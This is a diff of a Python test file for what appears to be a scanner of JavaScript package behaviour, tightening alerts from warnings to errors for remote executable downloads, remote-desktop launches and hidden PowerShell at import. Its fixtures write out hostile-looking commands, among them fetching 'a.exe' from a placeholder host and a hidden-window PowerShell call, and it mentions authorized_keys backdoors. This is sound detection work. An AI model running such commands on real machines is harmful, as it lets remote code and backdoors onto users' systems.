@@ -86,21 +86,25 @@ def test_authorized_keys_written_at_install_is_a_backdoor() -> None:
 def test_spawning_a_remote_executable_url() -> None:
     fetcher = spawn("a.js", 1, "node", "l.js https://cdn.example.invalid/a.exe C:/t/a.exe")
     assert alerts(run(fetcher, install=("a.js",)), "remoteCodeDownload") == [("a.js", 1, "error")]
-    assert alerts(run(fetcher), "remoteCodeDownload") == [("a.js", 1, "warn")]
+    # Whatever runs it: the program started is whatever the server sends (issue 11).
+    assert alerts(run(fetcher), "remoteCodeDownload") == [("a.js", 1, "error")]
     archive = spawn("a.js", 1, "curl", "-LO https://cdn.example.invalid/tool-1.0.tar.gz")
     assert alerts(run(archive, install=("a.js",)), "remoteCodeDownload") == []
 
 
-def test_starting_a_remote_desktop_tool_warns_when_called() -> None:
+def test_starting_a_remote_desktop_tool_blocks_even_when_called() -> None:
     viewer = spawn("a.js", 1, "TeamViewer.exe")
-    assert alerts(run(viewer), "reverseShell") == [("a.js", 1, "warn")]
+    assert alerts(run(viewer), "reverseShell") == [("a.js", 1, "error")]
+    in_tests = spawn("test/a.js", 1, "TeamViewer.exe")
+    assert alerts(run(in_tests), "reverseShell") == [("test/a.js", 1, "monitor")]
     team = spawn("a.js", 1, "teamcity-agent", "start")
     assert alerts(run(team), "reverseShell") == []
 
 
-def test_hidden_powershell_at_import_is_hidden_behaviour() -> None:
+def test_hidden_powershell_at_import_blocks() -> None:
     hidden = spawn("index.js", 8, "powershell.exe", "powershell -WindowStyle hidden -Command x")
-    assert alerts(run(hidden, imports=("index.js",)), "troll") == [("index.js", 8, "warn")]
+    assert alerts(run(hidden, imports=("index.js",)), "troll") == [("index.js", 8, "error")]
+    assert alerts(run(hidden, install=("index.js",)), "troll") == [("index.js", 8, "error")]
     visible = spawn("index.js", 8, "powershell.exe", "-NoProfile -Command Get-Date")
     assert alerts(run(visible, imports=("index.js",)), "troll") == []
     assert alerts(run(hidden), "troll") == []  # only when called: not judged
